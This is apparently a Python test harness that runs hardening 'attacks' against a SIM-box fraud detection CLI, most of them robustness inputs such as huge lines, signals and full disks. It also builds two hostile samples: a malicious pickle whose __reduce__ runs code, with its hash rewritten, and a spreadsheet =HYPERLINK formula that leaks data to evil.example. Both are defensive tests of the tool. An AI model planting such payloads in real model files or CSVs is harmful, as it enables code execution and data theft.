#!/usr/bin/env python3
"""Rerun the attack list of issue 14 ("Hardening") against the installed ``simbox``.

    python tools/attack.py                      # every attack, full size (the 3M-row farm too)
    python tools/attack.py --quick              # the farm at 300k rows, a 20 MB unterminated line
                                                # (the cost bound is then shown, not judged)
    python tools/attack.py --only farm 2199     # attacks whose name contains a word given
    python tools/attack.py --only pools         # a farm the model flags (100k SIMs, 40 sites)

Each attack builds its input in a scratch folder, runs ``simbox scan`` (or
``simbox features``) as a child process with a time limit, and judges what
happened.  One row per attack: the verdict (``ok`` = handled as the issue asks,
``FAIL``, ``skip`` = cannot be staged here), exit status, the first line of
stderr (or of stdout), peak memory of the child (max RSS), seconds, and what was
kept (the output files, temporaries left beside ``--out``, files an attack
tried to create).  Exit status 0 when nothing failed.

Reader attacks (long fields, a 200 MB line without newline, damaged pcap.gz, a
bad pcap record header, FIFO / ``/dev/stdin`` / ``-`` as input, a ``-0``
duration) are handled on the ``readers`` branch; they show as FAIL until it is
merged.
"""
from __future__ import annotations

import argparse
import gzip
import json
import os
import pathlib
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import textwrap
import time

SIMBOX = [sys.executable, "-m", "simbox"]
HEADER = "record_type,start_time,imsi,imei,msisdn,other_party,duration_s,cell_id\n"


class Run:
    """A finished child: exit status, output, peak memory, seconds."""

    def __init__(self, args, *, timeout=600, stdin=None, env=None, signal_after=None,
                 cwd=None, on_start=None):
        t0 = time.monotonic()
        p = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             stdin=stdin if stdin is not None else subprocess.DEVNULL,
                             env=dict(os.environ, SIMBOX_NO_PROGRESS="1", **(env or {})), cwd=cwd)
        if on_start:
            on_start(p)
        deadline = t0 + timeout
        self.timed_out = False
        sent = False
        while True:
            pid, status, usage = os.wait4(p.pid, os.WNOHANG)
            if pid:
                break
            now = time.monotonic()
            when = signal_after[1] if signal_after else None
            if signal_after and not sent and (when() if callable(when) else now - t0 >= when):
                p.send_signal(signal_after[0])
                sent = True
            if now > deadline:
                p.kill()
                self.timed_out = True
                pid, status, usage = os.wait4(p.pid, 0)
                break
            time.sleep(0.05)
        p.returncode = os.waitstatus_to_exitcode(status)
        self.out = p.stdout.read().decode("utf-8", "replace")
        self.err = p.stderr.read().decode("utf-8", "replace")
        self.code = p.returncode
        self.seconds = time.monotonic() - t0
        self.peak_mb = usage.ru_maxrss / 1024.0

    @property
    def message(self) -> str:
        """The error line of standard error (``simbox ...: error: ...``), else its first line
        that is not a warning (nor a warning's echoed source line), else its first line (or
        standard output's)."""
        err = [x for x in self.err.splitlines() if x.strip()]
        lines = [x for x in err if ": error: " in x] or \
            [x for x in err if not x.startswith(("simbox: WARNING", " "))] or err or \
            [x for x in self.out.splitlines() if x.strip()]
        return ("timed out; " if self.timed_out else "") + (lines[0] if lines else "")


def kept(out: pathlib.Path) -> str:
    """The files of an output folder and what lies beside it."""
    parts = []
    if out.is_dir():
        parts.append(f"{out.name}/: {len(list(out.iterdir()))} files")
    beside = sorted(p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}."))
    if beside:
        parts.append("beside: " + ", ".join(beside))
    return "; ".join(parts) or "nothing"


def sample(work: pathlib.Path) -> pathlib.Path:
    """The small shipped sample network, copied."""
    from simbox.data import __file__ as data_init
    src = pathlib.Path(data_init).parent / "sample"
    dst = work / "sample"
    if not dst.exists():
        shutil.copytree(src, dst)
    return dst


def scan_args(s: pathlib.Path, out: pathlib.Path, *inputs, extra=()):
    return SIMBOX + ["scan", *(map(str, inputs or [s / "cdrs.csv.gz"])), "--cells", str(s / "cells.csv"),
                     "--tac", str(s / "tac.csv"), "--out", str(out), "--no-report", *extra]


# ---- the attacks ---------------------------------------------------------------------------

def farm(work, a):
    """Item 1: 3M rows, one IMEI for 100k IMSIs, one cell: a scan must finish near
    the cost of ``simbox features`` on the same file (issue: not done after 500 s)."""
    import numpy as np
    rows = 300_000 if a.quick else 3_000_000
    sims = 10_000 if a.quick else 100_000
    path = work / "farm.csv"
    rng = np.random.default_rng(1)
    cell = "46000-4779-11"
    with open(path, "w") as f:
        f.write(HEADER)
        t0 = 1772323200
        for lo in range(0, rows, 500_000):
            n = min(500_000, rows - lo)
            imsi = 460000000000000 + rng.integers(0, sims, n)
            t = np.sort(t0 + rng.integers(0, 7 * 86400, n))
            ts = np.datetime_as_string(t.astype("datetime64[s]"))
            other = 8613000000000 + rng.integers(0, 10**9, n)
            msisdn = imsi - 460000000000000 + 8613000000000
            f.writelines(f"SMS_MO,{x}Z,{i},35000000000001,{m},{o},0,{cell}\n"
                         for x, i, m, o in zip(ts, imsi, msisdn, other))
    s = sample(work)
    feats = Run(SIMBOX + ["features", str(path), "--cells", str(s / "cells.csv"), "--out",
                          str(work / "farm.parquet")], timeout=a.timeout)
    out = work / "farm-out"
    r = Run(scan_args(s, out, path, extra=["--threshold", str(a.farm_threshold)]
                      if a.farm_threshold is not None else []), timeout=a.timeout)
    ratio = r.seconds / max(feats.seconds, 0.1)
    # the bound; at --quick size the scan's fixed costs (importing pandas, the
    # report) outweigh the features, so the ratio is shown, not judged
    ok = r.code == 0 and not r.timed_out and (a.quick or ratio <= 1.5)
    return r, ok, (f"{kept(out)}; features {feats.seconds:.1f}s, scan/features {ratio:.2f}x"
                   + (" (not judged at --quick size)" if a.quick else ""))


def pools(work, a):
    """Item 1 again, a farm the model flags (not the device rule): 40 modem pools of 2,500
    SIMs on 16 IMEIs each (``benchmarks/make_pool_farm.py``), scanned at ``--threshold
    0.03`` (``--pools-threshold``): 100,000 SIMs flagged by the model, grouped and explained
    one by one; the same bound on the scan's cost."""
    maker = pathlib.Path(__file__).resolve().parents[1] / "benchmarks" / "make_pool_farm.py"
    if not maker.exists():
        return None, None, f"no {maker} (run from a checkout)"
    path = work / "pools.csv"
    size = ["--pools", "8", "--sims", "1250", "--rows", "300000", "--phones", "4000"] \
        if a.quick else []
    s = sample(work)
    made = Run([sys.executable, str(maker), "--out", str(path), "--cells", str(s / "cells.csv"),
                *size], timeout=a.timeout)
    if made.code != 0:
        return made, False, "the pools were not made"
    feats = Run(SIMBOX + ["features", str(path), "--cells", str(s / "cells.csv"), "--out",
                          str(work / "pools.parquet")], timeout=a.timeout)
    out = work / "pools-out"
    r = Run(scan_args(s, out, path, extra=["--threshold", str(a.pools_threshold)]),
            timeout=a.timeout)
    ratio = r.seconds / max(feats.seconds, 0.1)
    flagged = ""
    try:
        flagged = f"{json.loads((out / 'summary.json').read_text())['flagged']:,} flagged; "
    except (OSError, ValueError, KeyError):
        pass
    ok = r.code == 0 and not r.timed_out and (a.quick or ratio <= 1.5)   # as farm()
    return r, ok, (f"{kept(out)}; {flagged}features {feats.seconds:.0f}s, "
                   f"scan/features {ratio:.2f}x"
                   + (" (not judged at --quick size)" if a.quick else ""))


def date_2199(work, a):
    """Item 5: one row dated 2199 must be flagged as an outlier, not zero the priorities."""
    s = sample(work)
    path = work / "cdrs-2199.csv"
    with gzip.open(s / "cdrs.csv.gz", "rt") as f:
        text = f.read()
    first = text.splitlines()[1].split(",")
    first[1] = "2199-01-01T00:00:00Z"
    path.write_text(text + ",".join(first) + "\n")
    out = work / "out-2199"
    r = Run(scan_args(s, out, path, extra=["--json"]))
    ok = False
    if r.code == 0:
        summary = json.loads(r.out.strip().splitlines()[-1])
        import pandas as pd
        dep = pd.read_csv(out / "deployments.csv")
        ok = summary.get("time_outliers", {}).get("sims") == 1 and (dep["priority"] > 0).all() \
            and "far outside the bulk" in r.err
    return r, ok, kept(out)


def swapped_pickle(work, a):
    """Item 6: a swapped pickle with its hash updated must not run code when loaded."""
    from simbox.training.run import default_model_path
    model = work / "evil-model"
    shutil.rmtree(model, ignore_errors=True)
    shutil.copytree(default_model_path(), model)
    marker = work / "pwned"
    marker.unlink(missing_ok=True)
    code = textwrap.dedent(f"""
        import pickle, hashlib, json, pathlib
        class Evil:
            def __reduce__(self):
                return (open, ({str(marker)!r}, "w"))
        d = pathlib.Path({str(model)!r})
        data = pickle.dumps(Evil())
        (d / "model.joblib").write_bytes(data)
        for old in ("model.skops",):
            (d / old).unlink(missing_ok=True)
        card = json.loads((d / "model.json").read_text())
        card["format"] = "simbox-model/1"
        card["files"] = {{"model.joblib": {{"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}}}}
        (d / "model.json").write_text(json.dumps(card))
    """)
    subprocess.run([sys.executable, "-c", code], check=True)
    s = sample(work)
    out = work / "out-evil"
    r = Run(scan_args(s, out, extra=["--model", str(model)]))
    ok = r.code == 1 and not marker.exists() and "pickle" in r.message
    return r, ok, ("code RAN (pwned written)" if marker.exists() else "no code ran; ") + kept(out)


def _big_input(work, a, copies=None):
    """A CDR file that takes a few seconds to scan (for interrupting it)."""
    s = sample(work)
    copies = copies or (3 if a.quick else 8)
    path = work / f"big{copies}.csv.gz"
    if not path.exists():
        with gzip.open(s / "cdrs.csv.gz", "rb") as f:
            body = f.read().split(b"\n", 1)[1]
        with gzip.open(path, "wb", compresslevel=1) as f:
            f.write(HEADER.encode())
            for _ in range(copies):
                f.write(body)
    return s, path


def _interrupted(work, a, sig, name):
    s, path = _big_input(work, a)
    out = work / f"out-{name}"
    shutil.rmtree(out, ignore_errors=True)
    for p in work.glob(f".out-{name}.*"):
        shutil.rmtree(p, ignore_errors=True) if p.is_dir() else p.unlink()
    r = Run(scan_args(s, out, path), timeout=a.timeout,
            signal_after=(sig, lambda: bool(list(work.glob(f".out-{name}.*.tmp")))))
    after = kept(out)
    again = Run(scan_args(s, out, path))
    return r, after, again, out


def sigterm(work, a):
    """Item 8: SIGTERM is handled like SIGINT: no hidden temporary left."""
    r, after, again, out = _interrupted(work, a, signal.SIGTERM, "term")
    ok = r.code == 143 and ".tmp" not in after
    return r, ok, after


def sigkill(work, a):
    """Item 8: after kill -9 the next run proves the owner dead and removes the leftovers."""
    r, after, again, out = _interrupted(work, a, signal.SIGKILL, "kill")
    ok = again.code == 0 and ".tmp" not in kept(out)
    return r, ok, f"after kill: {after}; after the next scan: {kept(out)}"


def sigabrt(work, a):
    """Item 8: SIGABRT (a crash) leaves temporaries; the next run removes them."""
    r, after, again, out = _interrupted(work, a, signal.SIGABRT, "abrt")
    ok = again.code == 0 and ".tmp" not in kept(out)
    return r, ok, f"after abort: {after}; after the next scan: {kept(out)}"


def symlink_out(work, a):
    """Item 9: a symlink given as --out stays a link; its target is replaced."""
    s = sample(work)
    target = work / "real-out"
    link = work / "link-out"
    for p in (target, link):
        if p.is_symlink() or p.is_file():
            p.unlink()
        elif p.exists():
            shutil.rmtree(p)
    target.mkdir()
    link.symlink_to(target)
    r = Run(scan_args(s, link))
    ok = r.code == 0 and link.is_symlink() and (target / "flagged.csv").exists()
    return r, ok, f"link kept: {link.is_symlink()}; target: {kept(target)}"


def two_writers(work, a):
    """Item 9: a second scan on the same --out is refused with a message."""
    s, path = _big_input(work, a, copies=24)
    out = work / "out-two"
    shutil.rmtree(out, ignore_errors=True)
    first = subprocess.Popen(scan_args(s, out, path), stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, env=dict(os.environ, SIMBOX_NO_PROGRESS="1"))
    for _ in range(1200):                  # until the first scan writes (lock and temporary)
        if list(work.glob(".out-two.*.tmp")):
            break
        time.sleep(0.05)
    r = Run(scan_args(s, out, path))
    first.wait()
    ok = r.code == 1 and "another simbox run" in r.message and first.returncode == 0
    return r, ok, f"first scan exit {first.returncode}; {kept(out)}"


def formula_cells(work, a):
    """Item 9: =HYPERLINK(...) in cells.csv must not reach the CSV outputs as a formula."""
    s = sample(work)
    import pandas as pd
    cells = pd.read_csv(s / "cells.csv", dtype=str)
    cells["address"] = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
    evil = work / "evil-cells"
    evil.mkdir(exist_ok=True)
    cells.to_csv(evil / "cells.csv", index=False)
    shutil.copy(s / "tac.csv", evil / "tac.csv")
    shutil.copy(s / "cdrs.csv.gz", evil / "cdrs.csv.gz")
    out = work / "out-formula"
    r = Run(scan_args(evil, out))
    bad = []
    for f in out.glob("*.csv"):
        for cell in pd.read_csv(f, dtype=str, keep_default_na=False).to_numpy().ravel():
            if isinstance(cell, str) and cell.startswith(("=", "+", "@")):
                bad.append(f.name)
                break
    ok = r.code == 0 and not bad
    return r, ok, ("formulas in " + ", ".join(bad)) if bad else "no formula in any CSV"


def _mount(where: pathlib.Path, opts: str) -> bool:
    where.mkdir(parents=True, exist_ok=True)
    return subprocess.run(["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(where)],
                          capture_output=True).returncode == 0


def _umount(where):
    subprocess.run(["umount", str(where)], capture_output=True)


def enospc(work, a):
    """Item 9: a full disk is one line that names the path."""
    s = sample(work)
    disk = work / "tiny-disk"
    if not _mount(disk, "size=64k"):
        return None, None, "cannot mount a small tmpfs here (needs root and mount rights)"
    try:
        out = disk / "out"
        r = Run(scan_args(s, out))
        ok = r.code == 1 and str(out) in r.message and "no space left" in r.message
        return r, ok, kept(out)
    finally:
        _umount(disk)


def erofs(work, a):
    """Item 9: a read-only disk is one line that names the path."""
    s = sample(work)
    disk = work / "ro-disk"
    if not _mount(disk, "size=1m,ro"):
        return None, None, "cannot mount a read-only tmpfs here (needs root and mount rights)"
    try:
        out = disk / "out"
        r = Run(scan_args(s, out))
        ok = r.code == 1 and str(disk) in r.message and "read-only" in r.message
        return r, ok, "nothing (read-only)"
    finally:
        _umount(disk)


# ---- reader attacks (branch readers) -------------------------------------------------------

def _features(work, s, *inputs, stdin=None, timeout=300):
    return Run(SIMBOX + ["features", *map(str, inputs), "--cells", str(s / "cells.csv"),
                         "--out", str(work / "f.parquet")], stdin=stdin, timeout=timeout)


def long_field(work, a):
    """Readers: a 2 MiB field (over the 1 MiB record limit): a rejected record, not a crash."""
    s = sample(work)
    path = work / "long.csv"
    with gzip.open(s / "cdrs.csv.gz", "rt") as f:
        lines = f.read().splitlines()
    bad = lines[1].split(",")
    bad[5] = "9" * (2 << 20)
    path.write_text("\n".join(lines[:2] + [",".join(bad)] + lines[2:]) + "\n")
    r = _features(work, s, path)
    ok = r.code == 0 and "1 rejected" in (r.out + r.err) or ("1 MiB" in r.message and r.code == 1)
    return r, ok, "features written" if (work / "f.parquet").exists() else "nothing"


def line_without_newline(work, a):
    """Readers: a 200 MB line with no newline: bounded memory and a one-line answer."""
    s = sample(work)
    path = work / "noline.csv"
    size = (20 if a.quick else 200) << 20
    with open(path, "wb") as f:
        f.write(HEADER.encode())
        chunk = b"x" * (1 << 20)
        for _ in range(size >> 20):
            f.write(chunk)
    r = _features(work, s, path)
    ok = r.code in (0, 1) and r.peak_mb < 1024 and "Traceback" not in r.err
    return r, ok, f"{size >> 20} MB line"


def damaged_pcap_gz(work, a):
    """Readers: a truncated / damaged pcap.gz: counted and said, not a traceback."""
    s = sample(work)
    src = pathlib.Path("/work/shared/captures/ndpi_gtp_c.pcap")
    if not src.exists():
        return None, None, "no capture to damage"
    data = gzip.compress(src.read_bytes())
    path = work / "damaged.pcap.gz"
    path.write_bytes(data[: len(data) * 2 // 3])
    r = Run(SIMBOX + ["features", "--signaling", str(path), "--cells", str(s / "cells.csv"),
                      "--out", str(work / "f.parquet")])
    ok = r.code in (0, 1) and "Traceback" not in r.err and "internal error" not in r.err
    return r, ok, ""


def _attach_capture(path: pathlib.Path, n: int = 400) -> None:
    """A pcap of ``n`` attaches (2n packets: GTPv2-C and S6a), by the simulator's writer."""
    import numpy as np
    from simbox.data.pcap_writer import write_attach_pcap
    from simbox.fastpath.events import encode_digits
    imsi = np.array([encode_digits(f"4600{i:011d}") for i in range(n)])
    imei = np.array([encode_digits(f"3567890{i:07d}") for i in range(n)])
    msisdn = np.array([encode_digits(f"86138{i:08d}") for i in range(n)])
    cells = np.array([f"46000-1-{i + 1}" for i in range(n)], dtype=object)
    write_attach_pcap(path, np.arange(n) + 1772366405, imsi, imei, msisdn, cells)


def bad_pcap_header(work, a):
    """Item 4, readers: one pcap record header with an absurd length (2 GiB) a third of the
    way in: the reader passes over that record to the next plausible header, keeps every
    other packet and counts the damage (was: "1 rejected", every later packet lost)."""
    clean = work / "attach.pcap"
    _attach_capture(clean)
    data = bytearray(clean.read_bytes())
    offsets, p = [], 24
    while p + 16 <= len(data):
        offsets.append(p)
        p += 16 + struct.unpack_from("<I", data, p + 8)[0]
    k = len(offsets) // 3
    size = offsets[k + 1] - offsets[k]
    struct.pack_into("<I", data, offsets[k] + 8, 0x7FFFFFFF)
    path = work / "badhdr.pcap"
    path.write_bytes(bytes(data))

    def features(capture):
        return Run(SIMBOX + ["features", "--signaling", str(capture), "--json", "--out",
                             str(work / "f.parquet")])
    ref = features(clean)
    r = features(path)
    try:
        want, got = json.loads(ref.out.strip().splitlines()[-1]), \
            json.loads(r.out.strip().splitlines()[-1])
    except (ValueError, IndexError):
        return r, False, "no JSON summary"
    # the damaged record is one of the 2 packets of an attach: the other still carries it
    ok = r.code == 0 and got["rejected_by_reason"] == {"bad pcap record header": 1} and \
        got["records"] == want["records"] and got["skipped_bytes"] == size and \
        got["accepted"] >= want["accepted"] - 1
    return r, ok, (f"{got.get('accepted')} of {want.get('accepted')} attach events, "
                   f"{got.get('records')} of {want.get('records')} packets; "
                   f"{got.get('rejected_by_reason')}, {got.get('skipped_bytes')} bytes passed over "
                   f"(the record: {size})")


def fifo_input(work, a):
    """Readers: a FIFO as the CDR input."""
    s = sample(work)
    fifo = work / "cdrs.fifo"
    if fifo.exists():
        fifo.unlink()
    os.mkfifo(fifo)
    feeder = subprocess.Popen(["sh", "-c", f"zcat {s / 'cdrs.csv.gz'} > {fifo}"])
    r = _features(work, s, fifo, timeout=120)
    feeder.kill()
    return r, r.code == 0, "features written" if r.code == 0 else ""


def _stdin(work, name):
    s = sample(work)
    with gzip.open(s / "cdrs.csv.gz", "rb") as f:
        (work / "plain.csv").write_bytes(f.read())
    with open(work / "plain.csv", "rb") as fh:
        r = _features(work, s, name, stdin=fh, timeout=120)
    return r, r.code == 0, ""


def dev_stdin(work, a):
    """Readers: /dev/stdin as the CDR input."""
    return _stdin(work, "/dev/stdin")


def dash_stdin(work, a):
    """Readers: ``-`` for stdin."""
    return _stdin(work, "-")


def minus_zero(work, a):
    """Readers: a ``-0`` duration: rejected as a malformed number (or read as 0), never a crash."""
    s = sample(work)
    path = work / "minus0.csv"
    with gzip.open(s / "cdrs.csv.gz", "rt") as f:
        lines = f.read().splitlines()
    row = lines[1].split(",")
    row[6] = "-0"
    path.write_text("\n".join(lines[:2] + [",".join(row)] + lines[2:]) + "\n")
    r = Run(SIMBOX + ["features", str(path), "--cells", str(s / "cells.csv"), "--on-bad-records", "error",
                      "--out", str(work / "f.parquet")])
    ok = r.code == 0 or (r.code == 1 and "duration" in r.message)
    return r, ok, "read as 0" if r.code == 0 else "rejected, with file:line:field"


ATTACKS = [("farm: 100k IMSIs in one IMEI at one site", farm),
           ("pools: 100k SIMs in 40 modem pools, flagged by the model", pools),
           ("2199: one row dated 2199", date_2199),
           ("pickle: swapped model.joblib, hash updated", swapped_pickle),
           ("sigterm: SIGTERM mid-scan", sigterm),
           ("sigkill: kill -9 mid-scan, then rerun", sigkill),
           ("sigabrt: SIGABRT mid-scan, then rerun", sigabrt),
           ("symlink: --out is a symlink", symlink_out),
           ("two: two scans on one --out", two_writers),
           ("formula: =HYPERLINK in cells.csv", formula_cells),
           ("enospc: --out on a full disk", enospc),
           ("erofs: --out on a read-only disk", erofs),
           ("long: 2 MiB field (readers)", long_field),
           ("noline: huge line without newline (readers)", line_without_newline),
           ("pcapgz: damaged pcap.gz (readers)", damaged_pcap_gz),
           ("pcaphdr: bad pcap record header (readers)", bad_pcap_header),
           ("fifo: a FIFO as input (readers)", fifo_input),
           ("stdin: /dev/stdin as input (readers)", dev_stdin),
           ("dash: - for stdin (readers)", dash_stdin),
           ("minus0: -0 duration (readers)", minus_zero)]


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--quick", action="store_true", help="smaller inputs (minutes, not tens)")
    ap.add_argument("--only", nargs="+", default=[], help="attacks whose name contains a word")
    ap.add_argument("--timeout", type=float, default=900.0, help="seconds per child (default 900)")
    ap.add_argument("--workdir", help="scratch folder (default: a new temporary one)")
    ap.add_argument("--farm-threshold", type=float,
                    help="--threshold for the farm attack (0 flags all 100k SIMs: the worst case)")
    ap.add_argument("--pools-threshold", type=float, default=0.03,
                    help="--threshold for the pools attack (default 0.03: the model flags "
                         "nearly all pool SIMs; at its own threshold, none)")
    a = ap.parse_args(argv)
    work = pathlib.Path(a.workdir or tempfile.mkdtemp(prefix="simbox-attack-"))
    work.mkdir(parents=True, exist_ok=True)
    print("| attack | verdict | exit | message | peak MB | s | kept |")
    print("|---|---|---|---|---|---|---|")
    failed = 0
    for name, fn in ATTACKS:
        if a.only and not any(w in name for w in a.only):
            continue
        try:
            r, ok, what = fn(work, a)
        except Exception as exc:  # the harness itself: say so, go on
            r, ok, what = None, False, f"harness error: {type(exc).__name__}: {exc}"
        verdict = "skip" if ok is None else "ok" if ok else "FAIL"
        failed += verdict == "FAIL"
        if r is None:
            print(f"| {name} | {verdict} | | | | | {what} |", flush=True)
            continue
        msg = r.message.replace("|", "/")[:160]
        print(f"| {name} | {verdict} | {r.code} | {msg} | {r.peak_mb:,.0f} | {r.seconds:.1f} | "
              f"{what} |", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
